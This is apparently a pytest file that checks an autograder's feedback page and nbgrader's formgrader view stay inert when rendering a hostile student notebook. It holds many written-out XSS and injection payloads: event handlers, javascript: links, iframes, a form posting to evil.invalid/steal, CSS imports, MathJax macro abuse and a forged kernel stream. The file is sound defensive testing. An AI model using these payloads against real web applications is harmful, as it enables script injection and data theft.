"""Pages that people open run no script: a hostile train-kf submission, graded as the kit grades,
opened in headless Chromium as its feedback page and as formgrader's view of it.

The submission is the solved notebook with payloads in its written answers (Markdown: event
handlers, ``javascript:``/``vbscript:``/``data:`` links, SVG, frames, objects, ``<meta>`` refresh,
``<base>``, forms, CSS, MathJax macros) and a cell whose outputs hold them in every kind of
displayed data, in output metadata (nbconvert writes an image's width unquoted) and in a PNG's
data. Each payload tries to set ``window.__pwned``, the page's title, open a dialog or reach
another address. A page passes if none of that happens, no element from the submission carries
an event handler or a live link, and the honest parts still render: math (formgrader's as TeX for
MathJax, the feedback page's as MathML, made when the page was written: it loads no script), an
https link, a table, the lab's PNG figures. MathJax's CDN is served a stub (this machine cannot
reach it); every other request must stay on the page's own address.
"""

from __future__ import annotations

import base64
import contextlib
import copy
import json
import os
import re
import secrets
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook
from playwright.sync_api import Browser, Page

from autograder import cells
from autograder.catalogues import submissions
from autograder.labs import ROOT, get_lab
from autograder.pipeline import grading, nbgrader_apps
from student_jupyterlab import _free_port, _stop, _wait_until_ready, chromium

LAB = get_lab("train-kf")
STUDENT = "s666"
JS = "window.__pwned=1;document.title='pwned';alert(1)"
EVIL = "https://evil.invalid"
PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8ffff3f0005fe02fea7d6a4b80000000049454e44ae426082")).decode()
MARKUP = [
    f'<img src=x onerror="{JS}">',
    f'<a href="javascript:{JS}">js link</a> <a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,<script>{JS}</script>">data</a>',
    f'<a href="files/javascript:{JS}">files prefix</a>',
    f'<svg onload="{JS}"><script>{JS}</script></svg>',
    f'<iframe src="data:text/html,<script>parent.{JS}</script>"></iframe><iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f'<object data="{EVIL}/o.html"></object><embed src="{EVIL}/e.swf">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/"><base href="{EVIL}/">',
    f'<form action="{EVIL}/steal"><input name="q" autofocus onfocus="{JS}"><button>go</button></form>',
    f'<details open ontoggle="{JS}">d</details>',
    f'<style>@import url({EVIL}/x.css); body {{ background: url(javascript:{JS}) }} p {{ width: expression(alert(1)) }}</style>',
    f'<div style="background:url({EVIL}/bg.png)">styled</div> <img src="{EVIL}/pixel.png">',
    f'<!-- --!><img src=x onerror="{JS}"> -->',
]
TEX = [
    rf"$\href{{javascript:{JS}}}{{tex link}}$",
    r"$\unicode[evil]{x41}$ $\class{tex2jax_process}{x}$ $\style{position:fixed;top:0}{x}$ $\cssId{notebook}{x}$",
    rf"$\require{{{EVIL}/x.js}}$ $\data{{x=1}}{{y}}$ $\bbox[background:url({EVIL}/b.png)]{{z}}$",
    r"$$\newcommand{\x}[1]{\hr#1}\x{ef}{javascript:alert(1)}{y}$$",
    rf"$\text{{<img src=x onerror=\"{JS}\">}}$ $\mbox{{</mtext><svg onload=\"{JS}\">}}$",
    "$" + "{" * 3000 + r"\frac{x}{" * 300 + "}" * 3300 + "$ $" + "x+" * 20_000 + "x$",
]
MARKDOWN = [f"[md link](javascript:{JS})", f"<javascript:{JS}>", f"![md image]({EVIL}/md.png)"]
HONEST = ("Honest answer: the variance is $x^2$, and\n\n$$\\hat{\\mathbf{x}}_{k|k} = \\sum_i w_i$$\n\n"
          "See [NumPy](https://numpy.org/doc/).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
DATA = {"text/html": MARKUP[0], "text/markdown": f"[x](javascript:{JS}) {MARKUP[0]}", "text/latex": TEX[0],
        "image/svg+xml": f"<svg onload=\"{JS}\"/>", "application/javascript": JS, "application/pdf": "JVBERi0=",
        "application/json": {"a": MARKUP[0]},
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{JS}</script>", "version_major": 2}}
METADATA = {"image/png": {"width": f"1 onerror={JS}", "height": f"1 onload={JS}", "unconfined": True, "alt": MARKUP[0]},
            "filenames": {"image/png": f"{EVIL}/f.png"}, "isolated": True}
OUTPUTS = f"""from IPython.display import publish_display_data
for kind, value in {DATA!r}.items():
    publish_display_data({{kind: value}})
    publish_display_data({{kind: value, "text/plain": "plain beside " + kind}})
publish_display_data({{"image/png": {PNG!r}}}, metadata={METADATA!r})
publish_display_data({{"image/png": {PNG + '" onerror="' + JS!r}, "image/jpeg": {'x" onerror="' + JS!r}}})
print({MARKUP[0]!r}, {TEX[0]!r})
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "stream", {{"name": {'stdout" onmouseover="' + JS!r}, "text": "named stream"}},
                    parent=kernel.get_parent(), ident=b"stream")
"""
"""A code cell of the submission: every kind of displayed data, hostile metadata, a broken PNG, and
a stream message forged on the kernel's own channel, with a hostile stream name."""
MATHJAX_CDN = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"
LIVE_IN_SUBMISSION = """root => {
    const bad = [];
    for (const el of root.querySelectorAll('.cell *')) {
        if (el.closest('.panel-heading, .panel-footer')) continue;  // the template's grading controls
        for (const a of el.attributes) {
            if (a.name.startsWith('on') || a.name === 'style' && !/^text-align:\\w+$/.test(a.value)
                || /^\\s*(javascript|vbscript|data:text)/i.test(a.value)) bad.push(el.outerHTML.slice(0, 120));
        }
        if (el.matches('script, iframe, object, embed, svg, form, base, meta, style, details, input'))
            bad.push(el.outerHTML.slice(0, 120));
    }
    return bad;
}"""
"""The elements of the notebook's cells (not the template's grading controls) with an event
handler, CSS, a script link or a tag that a submission must not bring."""
MACROS = r"\\(href|unicode|class|style|cssId|require|data|bbox|newcommand)\b"


def hostile_notebook() -> nbformat.NotebookNode:
    nb = copy.deepcopy(submissions.solved(LAB))
    written = [c for c in nb.cells if c.cell_type == "markdown" and cells.meta(c).get("solution")]
    assert len(written) >= 2
    written[0].source = HONEST
    written[1].source = "\n\n".join(MARKUP + TEX + MARKDOWN)
    nb.cells.append(nbformat.v4.new_markdown_cell("\n\n".join(MARKUP + TEX + MARKDOWN)))
    nb.cells.append(nbformat.v4.new_raw_cell("\n".join(MARKUP), metadata={"raw_mimetype": "text/html", "format": "text/html"}))
    nb.cells.append(nbformat.v4.new_code_cell(OUTPUTS))
    return nb


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """The hostile submission graded into a course folder (feedback pages written)."""
    class_dir, workdir = tmp_path_factory.mktemp("class"), tmp_path_factory.mktemp("course")
    submissions.write(hostile_notebook(), class_dir, STUDENT, LAB)
    grading.grade(class_dir, workdir, jobs=1)  # pages written
    return workdir


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


@contextlib.contextmanager
def watched(browser: Browser, own: str) -> Iterator[tuple[Page, dict]]:
    """A page whose dialogs, navigations and requests off ``own`` (an address prefix) are recorded;
    MathJax's CDN is answered with an empty script."""
    context = browser.new_context()
    page = context.new_page()
    seen: dict[str, list] = {"dialogs": [], "foreign": [], "navigations": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("framenavigated", lambda frame: seen["navigations"].append(frame.url))

    def route(request_route) -> None:
        url = request_route.request.url
        if url.startswith(MATHJAX_CDN):
            request_route.fulfill(status=200, content_type="application/javascript", body="")
        elif url.startswith(own) or url.startswith("data:image/"):
            request_route.continue_()
        else:
            seen["foreign"].append(url)
            request_route.abort()
    context.route("**/*", route)
    try:
        yield page, seen
    finally:
        context.close()


def assert_inert(page: Page, seen: dict, url: str, title: str, mathml: bool) -> None:
    """Nothing from the submission ran, navigated or reached out; the honest parts render (the math
    as MathML if ``mathml``, else as TeX for MathJax)."""
    page.wait_for_timeout(1500)  # a meta refresh, a timer, a late image
    assert page.evaluate("window.__pwned") is None, "a payload ran"
    assert seen["dialogs"] == [], seen["dialogs"]
    assert page.title() == title and "pwned" not in page.title()
    assert page.url == url and set(seen["navigations"]) <= {url}, seen["navigations"]
    assert seen["foreign"] == [], seen["foreign"]
    notebook = page.locator("#notebook-container").first
    assert notebook.evaluate(LIVE_IN_SUBMISSION) == []
    text = notebook.inner_text()
    written = "\n".join(notebook.locator(".text_cell_render").all_inner_texts())
    assert "tex link" in written and not re.search(MACROS, written), "a MathJax macro left live"
    if mathml:
        honest = notebook.locator(".text_cell_render math")
        assert honest.count() >= 2 and "$x^2$" not in text, "the honest TeX is not MathML"
        assert honest.first.evaluate("m => m.getBoundingClientRect().height") > 0, "the browser does not lay out the MathML"
    else:
        assert "$x^2$" in text and r"\hat{\mathbf{x}}_{k|k} = \sum_i w_i" in text, "the honest TeX is not there for MathJax"
    assert notebook.locator('a[href="https://numpy.org/doc/"]').count() >= 1
    assert notebook.locator("table td", has_text="2").count() >= 1
    figures = notebook.locator('img[src^="data:image/png"]')
    assert figures.count() >= 2 and figures.first.evaluate("img => img.naturalWidth") > 1, "the lab's figures"


def title_of(markup: str) -> str:
    """The title a page's HTML gives it."""
    return re.search(r"<title>(.*?)</title>", markup, re.S).group(1).strip()


@pytest.mark.needs("chromium")
def test_the_feedback_page_of_a_hostile_submission_runs_nothing(course, browser):
    path = nbgrader_apps.feedback_page(course, LAB.id, STUDENT)
    url = path.as_uri()
    with watched(browser, url) as (page, seen):
        page.goto(url)
        assert_inert(page, seen, url, title_of(path.read_text()), mathml=True)
    assert "<script" not in path.read_text().lower(), "the feedback page holds a script"


def _course_config(course: Path) -> None:
    """The course's nbgrader configuration for a server started in ``course``."""
    (course / "nbgrader_config.py").write_text(
        f"load_subconfig({str(ROOT / 'nbgrader_config.py')!r})\n"
        f"c.CourseDirectory.root = {str(course)!r}\n"
        f"c.CourseDirectory.source_directory = {str(ROOT / 'source')!r}\n"
        f"c.CourseDirectory.db_url = {'sqlite:///' + str(course / 'gradebook.db')!r}\n")


@contextlib.contextmanager
def formgrader(course: Path, home: Path) -> Iterator[tuple[str, str]]:
    """A Jupyter server with nbgrader's formgrader on the course folder: (its address, its token)."""
    _course_config(course)
    config_dir = home / "config"
    config_dir.mkdir(parents=True, exist_ok=True)
    (config_dir / "jupyter_server_config.json").write_text(json.dumps(
        {"ServerApp": {"jpserver_extensions": {"nbgrader.server_extensions.formgrader": True}}}))
    env = dict(os.environ, JUPYTER_CONFIG_DIR=str(config_dir), JUPYTER_DATA_DIR=str(home / "data"),
               JUPYTER_RUNTIME_DIR=str(home / "runtime"), IPYTHONDIR=str(home / "ipython"))
    port, token = _free_port(), secrets.token_hex(16)
    url, log = f"http://127.0.0.1:{port}", home / "server.log"
    command = [sys.executable, "-m", "jupyter", "server", "--no-browser", "--allow-root", "--ServerApp.ip=127.0.0.1",
               f"--ServerApp.port={port}", "--ServerApp.port_retries=0", f"--IdentityProvider.token={token}",
               f"--ServerApp.root_dir={course}"]
    with log.open("w") as output:
        server = subprocess.Popen(command, cwd=course, env=env, stdin=subprocess.DEVNULL, stdout=output,
                                  stderr=subprocess.STDOUT, start_new_session=True)
    try:
        _wait_until_ready(server, url, token, log)
        yield url, token
    finally:
        _stop(server)


@pytest.mark.needs("chromium")
def test_formgraders_view_of_a_hostile_submission_runs_nothing(course, browser, tmp_path):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        submission = gradebook.find_submission_notebook(LAB.id, LAB.id, STUDENT).id
    with formgrader(course, tmp_path) as (server, token):
        url = f"{server}/formgrader/submissions/{submission}/?token={token}"
        with watched(browser, server + "/") as (page, seen):
            served = page.goto(url).text()
            assert_inert(page, seen, url, title_of(served), mathml=False)
